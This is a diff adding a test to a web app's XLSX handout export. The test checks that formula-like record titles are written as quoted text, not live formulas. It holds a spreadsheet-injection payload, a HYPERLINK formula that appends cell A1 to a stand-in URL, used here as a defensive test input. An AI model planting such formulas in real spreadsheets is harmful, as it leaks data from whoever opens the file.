@@ -108,6 +108,18 @@ def test_the_xlsx_handout_has_chinese_headers_and_one_row_per_pair(client, db):
     assert [row[1] for row in rows[1:]] == [pair["demand_id"] for pair in pairs]
 
 
+def test_the_xlsx_handout_writes_formula_like_titles_as_text(client, db):
+    log_in(client, db, "broker")
+    plan_by_form(client)
+    session = only_session(db)
+    first = store.session_pairs(db, session["id"])[0]
+    supply = store.get_record(db, "supplies", first["supply_id"])
+    store.upsert_records(db, "supplies", [{**supply, "title": '=HYPERLINK("http://x?leak="&A1,"x")', "platform": "=1+2"}])
+    sheet = openpyxl.load_workbook(io.BytesIO(client.get(f"/sessions/{session['id']}/handout.xlsx").data)).active
+    cells = {header.value: cell for header, cell in zip(sheet[1], sheet[2])}
+    assert cells["成果名称"].value.startswith("=HYPERLINK") and cells["平台名称"].value == "=1+2"
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in (cells["成果名称"], cells["平台名称"]))
+
 def test_the_print_handout_carries_each_pairs_summaries_score_and_reasons_without_inline_script(client, db):
     log_in(client, db, "broker")
     plan_by_form(client)
